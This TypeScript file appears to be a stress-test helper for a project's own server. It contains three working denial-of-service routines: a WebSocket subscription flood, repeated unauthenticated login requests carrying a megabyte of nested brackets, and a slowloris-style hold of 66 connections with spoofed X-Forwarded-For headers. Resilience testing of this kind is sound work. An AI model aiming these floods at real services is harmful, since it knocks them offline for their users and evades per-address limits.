// One attacker, as a process of its own so that it costs the measuring one nothing: flood.ts KIND URL TOKEN
import { connect } from 'node:net'
import { once } from 'node:events'
import { setTimeout as sleep } from 'node:timers/promises'
import { WebSocket } from 'ws'
import { authApi } from '@kaibo/contract/auth/auth.api.ts'
import { wsInfoApi } from '@kaibo/contract/legacy/ws-info.api.ts'

const [kind = '', url = '', token = ''] = process.argv.slice(2)

/** A channel that subscribes to fifty rooms that do not exist, again and again; another when it is closed. */
async function frames(): Promise<never> {
  const topics = Array.from({ length: 50 }, (_, n) =>
    `room:22222${222 + n}`.replaceAll(/[01]/g, 'A'),
  )
  const frame = JSON.stringify({ type: 'subscribe', topics })
  for (;;) {
    const answer = await fetch(`${url}${wsInfoApi.wsInfo.path}`, { headers: { token } })
    const { data } = (await answer.json()) as { data: { ticket: string } }
    const address = `${url.replace('http', 'ws')}/live/ws?ticket=${encodeURIComponent(data.ticket)}`
    const socket = new WebSocket(address)
    socket.on('message', () => {}).on('error', () => {})
    await once(socket, 'open')
    while (socket.readyState === WebSocket.OPEN) {
      for (let n = 0; n < 500 && socket.bufferedAmount < 1_000_000; n++) socket.send(frame)
      await sleep(1)
    }
  }
}

/** Bodies of nothing but opening brackets, without a login. */
async function brackets(): Promise<never> {
  const headers = { 'content-type': 'application/json' }
  const body = '['.repeat(1_000_000)
  const login = () => fetch(`${url}${authApi.login.path}`, { method: 'POST', headers, body })
  for (;;) await Promise.all(Array.from({ length: 4 }, () => login().catch(() => sleep(10))))
}

/** From three addresses 66 bodies of a megabyte are announced, and a byte of each sent. */
async function announcements(): Promise<never> {
  const { hostname, port } = new URL(url)
  for (let n = 0; n < 66; n++) {
    const socket = connect(Number(port), hostname)
    socket.on('error', () => {})
    const from = `X-Forwarded-For: 192.0.2.${1 + (n % 3)}`
    const head = `POST ${authApi.login.path} HTTP/1.1\r\nHost: a\r\n${from}\r\nContent-Type: application/json`
    socket.write(`${head}\r\nContent-Length: 1048576\r\n\r\n{`)
  }
  for (;;) await sleep(1_000)
}

const floods: Record<string, () => Promise<never>> = { frames, brackets, announcements }
await floods[kind]?.()
